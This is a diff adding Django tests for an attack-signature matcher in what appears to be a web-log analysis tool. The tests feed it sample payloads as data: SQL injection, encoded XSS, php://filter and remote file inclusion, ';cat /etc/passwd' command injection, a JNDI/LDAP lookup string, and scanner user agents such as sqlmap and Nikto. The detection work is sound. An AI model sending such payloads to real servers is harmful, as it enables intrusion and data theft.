@@ -0,0 +1,89 @@
+# -*- coding: utf-8 -*-
+
+"""Attack signatures tests."""
+
+from django.test import TestCase
+
+from meerkat.logs import signatures
+from meerkat.logs.completion import complete_data
+from meerkat.logs.generator import LogGenerator
+from meerkat.logs.models import RequestLog
+
+
+class SignaturesTestCase(TestCase):
+    """Attack signatures test case."""
+
+    def test_match(self):
+        """Each family is matched, in raw or encoded texts."""
+        assert signatures.match(
+            '/a?id=1%20UNION%20ALL%20SELECT%20null--') == (
+                signatures.SQL_INJECTION)
+        assert signatures.match('/a?q=%253Cscript%253E') == signatures.XSS
+        assert signatures.match('/x?f=php://filter') == (
+            signatures.FILE_INCLUSION)
+        assert signatures.match('/a;cat /etc/passwd') == (
+            signatures.PATH_TRAVERSAL | signatures.COMMAND_INJECTION)
+        assert signatures.match(
+            '/', user_agent='${jndi:ldap://host/a}',
+            referrer='http://host/../../') == (
+                signatures.EXPRESSION_INJECTION | signatures.PATH_TRAVERSAL)
+        assert signatures.match(user_agent='sqlmap/1.2') == (
+            signatures.SCANNER_AGENT)
+        # Scanner paths are only matched in URLs.
+        assert not signatures.match(referrer='http://host/wp-login.php')
+        assert not signatures.match(
+            '/search/?q=select+a+car+from+the+list&cat=2&id=3')
+
+    def test_benign(self):
+        """Benign requests close to attack signatures are not matched."""
+        for url in ('/docs/config.json', '/static/test.php',
+                    '/cgi-bin/search.cgi', '/exports/report.sql',
+                    '/login?page=http://example.com/about',
+                    '/a?x=1&cmd=save', '/api/settings.py.html'):
+            assert not signatures.match(url), url
+        for url in ('/config.json', 'http://host/test.php?a=1',
+                    '/cgi-bin/php5', '/backup.sql'):
+            assert signatures.match(url) == signatures.SCANNER_PATH, url
+        assert signatures.match('/?page=http://host/shell.txt?') == (
+            signatures.FILE_INCLUSION)
+        assert signatures.match('/a?x=1&cmd=whoami') == (
+            signatures.COMMAND_INJECTION)
+
+    def test_generated_attacks(self):
+        """Generated attacks are matched, other requests are not."""
+        generator = LogGenerator(seed=3, attacks=0.2)
+        for _ in range(500):
+            request = generator.request()
+            mask = signatures.match(
+                request['url'], request['user_agent'], request['referrer'])
+            assert bool(mask) == request['attack']
+
+    def test_fallback(self):
+        """Without Aho-Corasick, literals are matched by regexes."""
+        ahocorasick = signatures.ahocorasick
+        signatures.ahocorasick = None
+        try:
+            matcher = signatures.Matcher(cache_size=0)
+        finally:
+            signatures.ahocorasick = ahocorasick
+        assert matcher.automaton is None
+        assert matcher.match('/wp-login.php?x=<script>') == (
+            signatures.SCANNER_PATH | signatures.XSS)
+        assert not matcher.match('/static/test.php')
+
+    def test_completion(self):
+        """Suspicious request logs are completed with their families."""
+        data = complete_data({
+            'request': 'GET /.env HTTP/1.1', 'user_agent': 'Nikto/2.1.6'})
+        assert data['suspicious'] is True
+        assert data['signatures'] == (
+            signatures.SCANNER_PATH | signatures.SCANNER_AGENT)
+        log = RequestLog(request='GET /index.html HTTP/1.1',
+                         user_agent='Mozilla/5.0')
+        assert log.complete(save=False)
+        assert (log.suspicious, log.signatures) == (False, 0)
+        log.user_agent = 'masscan/1.0'
+        assert log.complete_suspicious(save=False)
+        assert log.suspicious
+        assert [family.name for family in log.get_signature_families()] == [
+            'scanner_agent']